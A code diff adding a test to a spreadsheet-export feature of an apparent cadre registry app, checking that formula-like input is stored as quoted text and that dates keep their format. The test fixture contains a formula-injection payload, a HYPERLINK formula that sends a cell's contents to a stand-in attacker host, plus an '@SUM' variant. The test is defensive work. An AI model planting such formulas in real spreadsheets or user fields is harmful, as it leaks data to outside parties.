@@ -126,6 +126,21 @@ def test_export_contains_the_filtered_rows_masked(client_for, agency_officer, re
     assert entry.detail["full_identifiers"] is False
 
 
+def test_export_writes_hostile_text_as_text_and_dates_as_dates(
+    client_for, steering_admin, ministry
+):
+    hostile = '=HYPERLINK("http://evil.example/?d="&P2,"Xem")'
+    cadre = CadreFactory(agency=ministry, full_name=hostile, hometown="@SUM(1)")
+    response = client_for(steering_admin).get(reverse("cadres:cadre_export"))
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    row = next(sheet.iter_rows(min_row=2))
+    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (hostile, "s", True)
+    assert (row[5].value, row[5].data_type) == ("@SUM(1)", "s")
+    assert "f" not in {cell.data_type for line in sheet.iter_rows() for cell in line}
+    assert row[3].value.date() == cadre.date_of_birth
+    assert row[3].number_format == "dd/mm/yyyy"
+
+
 def test_export_with_full_identifiers_is_logged(client_for, agency_officer, registry):
     response = client_for(agency_officer).get(
         reverse("cadres:cadre_export"), {"q": "nguyen", "identifiers": "full"}
